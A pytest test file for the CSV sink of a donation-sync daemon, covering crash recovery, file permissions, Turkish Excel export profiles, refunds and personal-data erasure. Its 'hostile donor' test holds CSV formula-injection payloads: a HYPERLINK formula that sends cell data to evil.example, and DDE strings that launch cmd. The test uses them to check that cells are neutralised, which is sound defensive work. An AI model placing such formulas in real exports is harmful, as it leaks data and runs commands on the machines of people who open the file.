"""The CSV sink: conformance, files per kind and day, round trips, crashes, bad directories."""

from __future__ import annotations

import csv
import dataclasses
import json
import os
import shutil
import stat
from decimal import Decimal
from pathlib import Path

import pytest

from fonzipd.kinds import Kind
from fonzipd.records import Person, Record
from fonzipd.sink import PermanentSinkError, SinkConfigError, TransientSinkError
from fonzipd.sinks.csv import (
    COLUMNS,
    LOCK_NAME,
    OLD_LEDGER_NAME,
    CSVOptions,
    CSVSink,
    ledger_path,
    relative_path,
)
from fonzipd.sinks.csv_format import text_cell
from fonzipd.testing import check_sink, context_for_tests, sample_records
from tests.fonzip_objects import detail, donation, norm


def _sink(tmp_path: Path, out: Path, **options: object) -> CSVSink:
    return CSVSink(CSVOptions(directory=out, **options), context_for_tests(tmp_path))


def _rows(out: Path) -> list[dict[str, str]]:
    rows: list[dict[str, str]] = []
    for path in sorted(out.glob("*/*.csv")):
        with path.open(newline="", encoding="utf-8-sig") as f:
            rows.extend(csv.DictReader(f))
    return rows


async def _write_all(sink: CSVSink, *batches: list[Record]) -> None:
    await sink.open()
    try:
        for batch in batches:
            await sink.write(batch)
    finally:
        await sink.close()


async def test_passes_the_conformance_suite(tmp_path: Path) -> None:
    out = tmp_path / "csv"

    async def read_back() -> list[str]:
        return [row["key"] for row in _rows(out)]

    async def contains(text: str) -> bool:
        return any(text.encode() in p.read_bytes() for p in out.rglob("*") if p.is_file())

    await check_sink(lambda: _sink(tmp_path, out, include_data=True), read_back, contains=contains)


async def test_one_file_per_kind_and_business_date_with_a_header(tmp_path: Path) -> None:
    out = tmp_path / "csv"
    recs = sample_records(12)
    await _write_all(_sink(tmp_path, out, layout="snapshots"), recs)
    expected = {relative_path(r) for r in recs}
    assert {str(p.relative_to(out)) for p in out.glob("*/*.csv")} == expected
    assert any(r.business_date is None for r in recs)
    assert any(p.endswith("undated.csv") for p in expected)
    # Business dates are local (Istanbul): 21:00 UTC on March 9 is March 10 there.
    assert "donation/2025-03-10.csv" in expected
    for path in out.glob("*/*.csv"):
        raw = path.read_bytes()
        assert raw.startswith(b"key,kind,fonzip_id,")  # no BOM by default
        assert raw.count(b"key,kind,fonzip_id,") == 1


async def test_nasty_text_survives_a_round_trip_through_csv_reader(tmp_path: Path) -> None:
    out = tmp_path / "csv"
    recs = sample_records(10)
    await _write_all(_sink(tmp_path, out, include_data=True, layout="snapshots"), recs)
    rows = {row["key"]: row for row in _rows(out)}
    assert len(rows) == len(recs)
    for record in recs:
        row = rows[record.key]
        assert list(row) == [*COLUMNS, "data"]
        assert row["person_name"] == (record.person.name or "")
        assert row["status"] == record.status
        assert row["amount"] == ("" if record.amount is None else str(record.amount))
        assert json.loads(row["data"]) == record.data
    names = {row["person_name"] for row in rows.values()}
    assert 'İlkay "Işık" Ağaoğlu' in names
    assert "Gülşen Ünal\nYılmaz" in names
    assert "Şükrü Güneş, Jr." in names


async def test_excel_bom_starts_new_files_with_one(tmp_path: Path) -> None:
    out = tmp_path / "csv"
    recs = sample_records(3)
    await _write_all(_sink(tmp_path, out, excel_bom=True), recs[:1], recs[1:])
    for path in out.glob("*/*.csv"):
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbfentry_id,entry,")
        assert raw.count(b"\xef\xbb\xbf") == 1


async def test_snapshots_a_refund_is_a_new_row_with_the_new_status(tmp_path: Path) -> None:
    out = tmp_path / "csv"
    recs = sample_records(6)
    await _write_all(_sink(tmp_path, out, layout="snapshots"), recs)
    first = recs[0]
    statuses = [r["status"] for r in _rows(out) if r["fonzip_id"] == str(first.fonzip_id)]
    assert statuses == ["paid", "refund"]


async def test_rewrite_after_a_crash_before_the_acknowledgement_adds_no_row(
    tmp_path: Path,
) -> None:
    out = tmp_path / "csv"
    recs = sample_records(8)
    await _write_all(_sink(tmp_path, out), recs)
    before = {p: p.read_bytes() for p in out.glob("*/*.csv")}
    # fonzipd died before recording the acknowledgement: a new instance gets it all again.
    await _write_all(_sink(tmp_path, out), recs)
    assert {p: p.read_bytes() for p in out.glob("*/*.csv")} == before


async def test_rows_written_before_a_crash_in_the_ledger_commit_are_not_duplicated(
    tmp_path: Path,
) -> None:
    out = tmp_path / "csv"
    recs = sample_records(10)
    first, second = recs[:5], recs[5:]
    await _write_all(_sink(tmp_path, out), first)
    saved = tmp_path / "ledger-before"
    saved.mkdir()
    ledger = ledger_path(tmp_path, out)
    for f in ledger.parent.glob(ledger.name + "*"):
        shutil.copy2(f, saved / f.name)
    await _write_all(_sink(tmp_path, out), second)
    # The state a kill -9 after the CSV fsync and before the ledger commit leaves:
    # the rows of `second` are in the files, the ledger knows only `first`.
    for f in ledger.parent.glob(ledger.name + "*"):
        f.unlink()
    for f in saved.iterdir():
        shutil.copy2(f, ledger.parent / f.name)
    torn = _rows(out)
    assert len(torn) == len(recs)

    await _write_all(_sink(tmp_path, out), second)
    keys = [row["key"] for row in _rows(out)]
    assert sorted(keys) == sorted(r.key for r in recs)


async def test_a_half_written_row_is_cut_away(tmp_path: Path) -> None:
    out = tmp_path / "csv"
    recs = sample_records(6)
    await _write_all(_sink(tmp_path, out), recs[:1])
    target = out / relative_path(recs[0])
    good = target.read_bytes()
    with target.open("ab") as f:  # a crash in the middle of a row
        f.write(b'donation:1:x,donation,1,paid,"half a quoted\r\nfield')
    await _write_all(_sink(tmp_path, out))
    assert target.read_bytes() == good
    with target.open("ab") as f:
        f.write(b"donation:9:y,dona")
    same_day = [r for r in recs[1:] if relative_path(r) == relative_path(recs[0])]
    await _write_all(_sink(tmp_path, out), same_day or recs[1:])
    keys = [row["key"] for row in _rows(out)]
    assert len(keys) == len(set(keys))
    assert all(k.count(":") == 2 and not k.endswith(("x", "y")) for k in keys)


async def test_an_unwritable_directory_is_transient_and_recovers(tmp_path: Path) -> None:
    # Tests run as root, and chmod does not stop root: a file where the kind's
    # directory should be makes the path unwritable for anyone.
    out = tmp_path / "csv"
    recs = sample_records(3)
    sink = _sink(tmp_path, out)
    await sink.open()
    blocker = out / str(recs[0].kind)
    blocker.write_text("in the way")
    with pytest.raises(TransientSinkError, match=str(blocker)):
        await sink.write(recs[:1])
    blocker.unlink()
    await sink.write(recs)
    await sink.close()
    assert sorted(row["key"] for row in _rows(out)) == sorted(r.key for r in recs)


async def test_a_directory_under_a_file_is_transient_at_open(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("")
    with pytest.raises(TransientSinkError, match="file/csv"):
        await _sink(tmp_path, blocker / "csv").open()


async def test_changed_columns_are_a_permanent_error_for_that_file_only(tmp_path: Path) -> None:
    out = tmp_path / "csv"
    recs = sample_records(12)
    await _write_all(_sink(tmp_path, out), recs[:1])
    same = [r for r in recs[1:] if relative_path(r) == relative_path(recs[0])]
    other = [r for r in recs[1:] if relative_path(r) != relative_path(recs[0])]
    sink = _sink(tmp_path, out, include_data=True)
    await sink.open()
    with pytest.raises(PermanentSinkError, match="other columns") as caught:
        await sink.write(same + other)
    await sink.close()
    assert caught.value.failed_keys == frozenset(r.key for r in same)
    written = {row["key"] for row in _rows(out)}
    assert {r.key for r in other} <= written


async def test_two_sinks_on_one_directory_are_refused(tmp_path: Path) -> None:
    out = tmp_path / "csv"
    first = _sink(tmp_path, out)
    await first.open()
    try:
        with pytest.raises(SinkConfigError, match="another CSV sink"):
            await _sink(tmp_path, out).open()
    finally:
        await first.close()


# -- a hostile donor, a careless umask, a shared folder ----------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


async def test_formula_cells_are_neutralized_and_amounts_stay_numbers(tmp_path: Path) -> None:
    out = tmp_path / "csv"
    base = sample_records(1)[0]
    hostile = [
        dataclasses.replace(
            base,
            fonzip_id=base.fonzip_id + i,
            status="succeeded",
            amount=Decimal("-12.50"),
            currency=formula,
            person=Person(name=formula, email=formula, phone=formula, fonzip_user_id=-7),
            data={"name": formula},
        )
        for i, formula in enumerate(FORMULAS)
    ]
    phone = dataclasses.replace(
        base, fonzip_id=base.fonzip_id + 99, person=Person(name="Ayşe", phone="+90 555 111 22 33")
    )
    await _write_all(_sink(tmp_path, out, include_data=True), [*hostile, phone])
    rows = {row["fonzip_id"]: row for row in _rows(out)}
    for record, formula in zip(hostile, FORMULAS, strict=True):
        row = rows[str(record.fonzip_id)]
        for column in ("person_name", "person_email", "person_phone", "currency"):
            assert row[column] == "'" + formula, column
        assert json.loads(row["data"]) == {"name": formula}  # starts with '{': left alone
        assert row["amount"] == "-12.50"  # a real amount: still a number
        assert row["fonzip_user_id"] == "-7"
    # An Excel-minded reader sees text, never a formula, in every cell.
    for row in rows.values():
        assert not any(
            v.startswith(("=", "+", "-", "@", "\t", "\r"))
            for k, v in row.items()
            if k not in ("amount", "fonzip_user_id")
        )
    assert rows[str(phone.fonzip_id)]["person_phone"] == "'+90 555 111 22 33"
    assert rows[str(phone.fonzip_id)]["person_name"] == "Ayşe"


@pytest.mark.parametrize("umask", [0o022, 0o000])
async def test_files_are_0600_and_directories_0700_whatever_the_umask(
    tmp_path: Path, umask: int
) -> None:
    out = tmp_path / "shared" / "with" / "accountant"
    state = tmp_path / "state"
    old = os.umask(umask)
    try:
        sink = CSVSink(CSVOptions(directory=out), context_for_tests(state))
        await _write_all(sink, sample_records(6))
    finally:
        os.umask(old)
    created = [out, out.parent, out.parent.parent, *out.rglob("*")]
    ledger = ledger_path(state, out)
    created += [ledger.parent, *ledger.parent.glob("*")]
    assert any(p.suffix == ".csv" for p in created)
    for path in created:
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode == (0o700 if path.is_dir() else 0o600), f"{path}: {oct(mode)}"
    # The shared folder holds the CSV files and an empty lock, no ledger.
    assert {p.name for p in out.iterdir() if p.is_file()} == {LOCK_NAME}
    assert (out / LOCK_NAME).stat().st_size == 0


async def test_an_old_ledger_in_the_folder_is_moved_out_and_still_counts(tmp_path: Path) -> None:
    out = tmp_path / "csv"
    recs = sample_records(8)
    await _write_all(_sink(tmp_path, out), recs[:5])
    # The layout of earlier versions: the ledger (and its WAL) inside the CSV folder.
    ledger = ledger_path(tmp_path, out)
    for f in ledger.parent.glob(ledger.name + "*"):
        f.rename(out / f.name.replace(ledger.name, OLD_LEDGER_NAME))
    assert (out / OLD_LEDGER_NAME).exists()
    before = _rows(out)

    await _write_all(_sink(tmp_path, out), recs)  # all eight again, as after a crash
    assert not list(out.glob(OLD_LEDGER_NAME + "*"))
    assert stat.S_IMODE(ledger.stat().st_mode) == 0o600
    keys = [row["key"] for row in _rows(out)]
    assert sorted(keys) == sorted(r.key for r in recs)  # the first five not written twice
    assert len(before) == 5


async def test_a_move_interrupted_after_the_copy_finishes_at_the_next_open(
    tmp_path: Path,
) -> None:
    out = tmp_path / "csv"
    recs = sample_records(4)
    await _write_all(_sink(tmp_path, out), recs)
    ledger = ledger_path(tmp_path, out)
    # A crash after the new ledger was renamed into place, before the old was removed.
    shutil.copy2(ledger, out / OLD_LEDGER_NAME)
    await _write_all(_sink(tmp_path, out), recs)
    assert not (out / OLD_LEDGER_NAME).exists()
    assert len(_rows(out)) == 4


SNAPSHOTS: dict[str, object] = {"include_data": True, "excel_bom": True, "layout": "snapshots"}


def _file_bytes(out: Path) -> dict[Path, bytes]:
    return {p: p.read_bytes() for p in sorted(out.glob("*/*.csv"))}


async def _forget_first_person(tmp_path: Path, out: Path) -> tuple[list[Record], dict[Path, bytes]]:
    """Write sample records (BOM, data column), forget the first record's person."""
    from fonzipd.privacy import Erasure

    recs = sample_records(12)
    await _write_all(_sink(tmp_path, out, **SNAPSHOTS), recs)
    before = _file_bytes(out)
    email = recs[0].person.email
    mine = tuple(sorted({(r.kind, r.fonzip_id) for r in recs if r.person.email == email}))
    sink = _sink(tmp_path, out, **SNAPSHOTS)
    await sink.open()
    try:
        assert await sink.forget(Erasure(mine, email=email)) == 4  # 3 records, one refunded
        assert await sink.forget(Erasure(mine, email=email)) == 0  # nothing left to remove
    finally:
        await sink.close()
    return recs, before


async def test_forget_rewrites_the_persons_rows_and_keeps_every_other_byte(
    tmp_path: Path,
) -> None:
    out = tmp_path / "csv"
    recs, before = await _forget_first_person(tmp_path, out)
    email = recs[0].person.email
    assert email is not None
    mine = {r.key for r in recs if r.person.email == email}
    for path, old in before.items():
        new = path.read_bytes()
        assert new.startswith(b"\xef\xbb\xbf")  # the BOM stays
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
        assert email.encode() not in new
        old_lines = old.split(b"\r\n")
        new_lines = new.split(b"\r\n")
        # Rows about other people are the same bytes: totals and layout do not move.
        kept = [o for o in old_lines if not any(k.encode() in o for k in mine)]
        assert kept == [n for n in new_lines if not any(k.encode() in n for k in mine)]
    rows = {row["key"]: row for row in _rows(out)}
    assert set(rows) == {r.key for r in recs}
    for record in recs:
        row = rows[record.key]
        if record.key in mine:
            assert (row["person_name"], row["person_email"], row["person_phone"]) == ("", "", "")
            assert (row["fonzip_user_id"], row["data"]) == ("", "{}")
            assert row["amount"] == str(record.amount or "")  # the accounting stays
        else:
            assert row["person_name"] == text_cell(record.person.name)


async def test_forget_then_a_crash_before_the_ledger_update_loses_and_doubles_nothing(
    tmp_path: Path,
) -> None:
    import sqlite3

    out = tmp_path / "csv"
    recs, before = await _forget_first_person(tmp_path, out)
    # Put back the sizes the ledger had before the rewrite: as if fonzipd died after the
    # rename and before the ledger's update.
    ledger = sqlite3.connect(ledger_path(tmp_path, out))
    with ledger:
        for path, old in before.items():
            ledger.execute(
                "UPDATE files SET size = ? WHERE path = ?",
                (len(old), str(path.relative_to(out))),
            )
    ledger.close()
    more = sample_records(6, first_id=5000)
    await _write_all(_sink(tmp_path, out, **SNAPSHOTS), more, recs)
    rows = _rows(out)
    assert sorted(row["key"] for row in rows) == sorted({r.key for r in recs + more})
    forgotten = {r.key for r in recs if r.person.email == recs[0].person.email}
    assert {row["person_email"] for row in rows if row["key"] in forgotten} == {""}


async def test_forget_after_a_crash_mid_rewrite_leaves_no_temporary_copy(tmp_path: Path) -> None:
    from fonzipd.privacy import Erasure

    out = tmp_path / "csv"
    recs = sample_records(4)
    await _write_all(_sink(tmp_path, out, layout="snapshots"), recs)
    target = out / relative_path(recs[1])
    # What a crash between writing the new file and renaming it leaves behind: a copy
    # (of other people's rows too) beside the intact old file.
    leftover = target.with_name(f".{target.name}.forget")
    leftover.write_bytes(target.read_bytes())
    sink = _sink(tmp_path, out, layout="snapshots")
    await sink.open()
    try:
        assert await sink.forget(Erasure(((recs[1].kind, recs[1].fonzip_id),))) == 1
    finally:
        await sink.close()
    assert not leftover.exists()
    assert [p.name for p in target.parent.iterdir() if p.name.startswith(".")] == []


# -- entries: what an accountant opens ---------------------------------------------------


def _donation(payment_status: int, *, refund_date: str | None = None) -> Record:
    obj = donation(payment_status)
    obj["transaction"]["refund_date"] = refund_date
    return norm(detail(Kind.DONATION, obj))


def _excel_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as f:
        return list(csv.DictReader(f, delimiter=";"))


async def test_excel_tr_a_refund_is_a_negative_row_in_its_own_days_file(tmp_path: Path) -> None:
    out = tmp_path / "csv"
    paid = _donation(3)
    refunded = _donation(4, refund_date="2024-05-09T10:30:00+03:00")
    await _write_all(_sink(tmp_path, out, profile="excel-tr"), [paid])
    payment_day = out / "donation" / "2024-05-06.csv"
    closed = payment_day.read_bytes()
    assert closed.startswith(b"\xef\xbb\xbfentry_id;entry;refund_of;date;time;")
    assert b"\r\n" in closed

    await _write_all(_sink(tmp_path, out, profile="excel-tr"), [refunded])
    # The payment's day is closed: its file did not change.
    assert payment_day.read_bytes() == closed
    assert sorted(str(p.relative_to(out)) for p in out.glob("*/*.csv")) == [
        "donation/2024-05-06.csv",
        "donation/2024-05-09.csv",
    ]
    (payment,) = _excel_rows(payment_day)
    (refund,) = _excel_rows(out / "donation" / "2024-05-09.csv")
    assert (payment["entry"], payment["amount"], payment["time"]) == (
        "payment",
        "250,00",
        "2024-05-06 14:03:12",
    )
    assert (refund["entry"], refund["amount"], refund["refund_of"]) == (
        "refund",
        "-250,00",
        payment["entry_id"],
    )
    assert refund["time"] == "2024-05-09 10:30:00"
    assert refund["currency"] == payment["currency"] == "TRY"
    # Summing both days gives what the association kept: nothing.
    assert sum(Decimal(r["amount"].replace(",", ".")) for r in (payment, refund)) == 0


async def test_a_record_first_seen_refunded_writes_both_entries_and_later_states_add_nothing(
    tmp_path: Path,
) -> None:
    out = tmp_path / "csv"
    refunded = _donation(4, refund_date="2024-05-09T10:30:00+03:00")
    await _write_all(_sink(tmp_path, out), [refunded])
    before = {p: p.read_bytes() for p in out.glob("*/*.csv")}
    assert len(before) == 2
    # The paid state arriving late (a replay, a stale reconcile), and the refund again:
    # each entry is in the files once already.
    await _write_all(_sink(tmp_path, out), [_donation(3), refunded])
    assert {p: p.read_bytes() for p in out.glob("*/*.csv")} == before
    entries_written = [row["entry_id"] for row in _rows(out)]
    assert entries_written == ["donation:101:payment", "donation:101:refund"]


async def test_monthly_files_and_settings_that_override_the_profile(tmp_path: Path) -> None:
    out = tmp_path / "csv"
    refunded = _donation(4, refund_date="2024-06-02T10:30:00+03:00")
    sink = _sink(tmp_path, out, profile="excel-tr", period="month", delimiter=",", excel_bom=False)
    await _write_all(sink, [refunded])
    may, june = out / "donation" / "2024-05.csv", out / "donation" / "2024-06.csv"
    assert may.read_bytes().startswith(b"entry_id,entry,")
    with june.open(newline="", encoding="utf-8") as f:
        (row,) = csv.DictReader(f)
    assert row["amount"] == "-250,00"  # the profile's decimal comma, quoted by the writer


async def test_a_snapshots_folder_is_not_mixed_with_entries_until_its_files_are_moved(
    tmp_path: Path,
) -> None:
    out = tmp_path / "csv"
    recs = sample_records(4)
    await _write_all(_sink(tmp_path, out, layout="snapshots"), recs)
    old_files = sorted(out.glob("*/*.csv"))
    with pytest.raises(SinkConfigError, match="snapshots layout") as caught:
        await _sink(tmp_path, out).open()
    assert "fonzipd replay --sink under_test" in str(caught.value)
    # The documented path: move the old files aside, start, replay.
    archive = tmp_path / "csv-before-upgrade"
    archive.mkdir()
    for path in old_files:
        path.rename(archive / f"{path.parent.name}-{path.name}")
    await _write_all(_sink(tmp_path, out), recs)
    assert sorted(row["key"] for row in _rows(out)) == sorted(r.key for r in recs)
    assert next(iter(out.glob("*/*.csv"))).read_bytes().startswith(b"entry_id,")


def test_snapshots_refuse_the_settings_of_entries() -> None:
    with pytest.raises(ValueError, match="profile, period need layout"):
        CSVOptions(directory=Path("/x"), layout="snapshots", profile="excel-tr", period="month")


async def test_forget_in_an_excel_entries_folder_empties_the_persons_rows_only(
    tmp_path: Path,
) -> None:
    from fonzipd.privacy import Erasure

    out = tmp_path / "csv"
    refunded = _donation(4, refund_date="2024-05-09T10:30:00+03:00")
    other = dataclasses.replace(
        _donation(3), fonzip_id=202, person=Person(name="Başka Kişi", email="b@example.org")
    )
    await _write_all(_sink(tmp_path, out, profile="excel-tr"), [refunded, other])
    sink = _sink(tmp_path, out, profile="excel-tr")
    await sink.open()
    try:
        erasure = Erasure(((Kind.DONATION, 101),), email=refunded.person.email)
        assert await sink.forget(erasure) == 2  # the payment and the refund rows
    finally:
        await sink.close()
    rows = {
        row["entry_id"]: row for path in sorted(out.glob("*/*.csv")) for row in _excel_rows(path)
    }
    for entry_id in ("donation:101:payment", "donation:101:refund"):
        assert (rows[entry_id]["person_name"], rows[entry_id]["person_email"]) == ("", "")
    assert rows["donation:101:refund"]["amount"] == "-250,00"  # the accounting stays
    assert rows["donation:202:payment"]["person_name"] == "Başka Kişi"
